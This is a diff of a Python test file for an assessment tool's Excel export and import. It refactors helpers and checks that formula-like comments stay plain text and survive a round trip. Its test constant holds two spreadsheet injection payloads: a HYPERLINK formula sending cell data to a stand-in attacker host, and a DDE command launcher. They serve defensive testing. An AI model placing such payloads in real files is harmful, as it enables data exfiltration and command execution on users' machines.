@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from assessments import services
 from assessments.excel import workbook_export, workbook_import
-from assessments.models import Answer
+from assessments.models import Answer, Assessment
 from tests.assessments.conftest import World
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "=1+1"]
@@ -27,20 +27,32 @@ def _cells(data: bytes, sheet: str, code: str) -> tuple[object, object]:
     return row[5], row[6]
 
 
-def test_comments_that_look_like_formulas_are_exported_as_text(world: World) -> None:
-    owner = world.users["owner"]
+def _two_answers(world: World, general: dict[str, tuple[object, str]]) -> Assessment:
+    """A new assessment with the owner's answers (item → value, comment) on ``t-general``."""
     assessment = world.new_assessment()
     services.answers_upsert(
-        actor=owner,
+        actor=world.users["owner"],
         assessment=assessment,
         answers=[
-            services.AnswerInput(
-                checklist="t-general", item="T-A-03", value=2, comment=FORMULAS[0]
-            ),
-            services.AnswerInput(
-                checklist="t-general", item="T-B-03", value=FORMULAS[1], comment=FORMULAS[2]
-            ),
+            services.AnswerInput(checklist="t-general", item=item, value=value, comment=comment)
+            for item, (value, comment) in general.items()
         ],
+    )
+    return assessment
+
+
+def _stored(assessment: Assessment) -> dict[str, tuple[object, str, int]]:
+    """Every stored answer of the assessment: item → (value, comment, version)."""
+    return {
+        a.item_code: (a.value, a.comment, a.version)
+        for a in Answer.objects.filter(assessment=assessment)
+    }
+
+
+def test_comments_that_look_like_formulas_are_exported_as_text(world: World) -> None:
+    owner = world.users["owner"]
+    assessment = _two_answers(
+        world, {"T-A-03": (2, FORMULAS[0]), "T-B-03": (FORMULAS[1], FORMULAS[2])}
     )
     data = workbook_export(assessment=assessment, language="en")
     with zipfile.ZipFile(io.BytesIO(data)) as archive:
@@ -51,9 +63,9 @@ def test_comments_that_look_like_formulas_are_exported_as_text(world: World) -> 
     answer, comment = _cells(data, "t-general", "T-B-03")
     assert answer.data_type == "s" and answer.value == FORMULAS[1]  # type: ignore[attr-defined]
     # Imported back: nothing changes, nothing is emptied, no version moves.
-    before = {a.item_code: (a.value, a.comment, a.version) for a in Answer.objects.all()}
+    before = _stored(assessment)
     assert workbook_import(actor=owner, assessment=assessment, data=data) == 0
-    after = {a.item_code: (a.value, a.comment, a.version) for a in Answer.objects.all()}
+    after = _stored(assessment)
     assert after == before
 
 
@@ -76,35 +88,11 @@ SPECIAL = st.sampled_from(
 @given(comment=st.one_of(SPECIAL, TEXT), text=st.one_of(SPECIAL, TEXT))
 def test_round_trip_of_any_text_is_lossless(world: World, comment: str, text: str) -> None:
     owner = world.users["owner"]
-    assessment = world.new_assessment()
-    services.answers_upsert(
-        actor=owner,
-        assessment=assessment,
-        answers=[
-            services.AnswerInput(
-                checklist="t-general",
-                item="T-A-03",
-                value=1,
-                comment=comment,
-            ),
-            services.AnswerInput(
-                checklist="t-general",
-                item="T-B-03",
-                value=text,
-                comment=comment,
-            ),
-        ],
-    )
-    before = {
-        a.item_code: (a.value, a.comment, a.version)
-        for a in Answer.objects.filter(assessment=assessment)
-    }
+    assessment = _two_answers(world, {"T-A-03": (1, comment), "T-B-03": (text, comment)})
+    before = _stored(assessment)
     for language in ("ko", "en"):
         data = workbook_export(assessment=assessment, language=language)
         assert workbook_import(actor=owner, assessment=assessment, data=data) == 0
-    after = {
-        a.item_code: (a.value, a.comment, a.version)
-        for a in Answer.objects.filter(assessment=assessment)
-    }
+    after = _stored(assessment)
     assert after == before
     assert after["T-A-03"][1] == comment and after["T-B-03"][0] == text
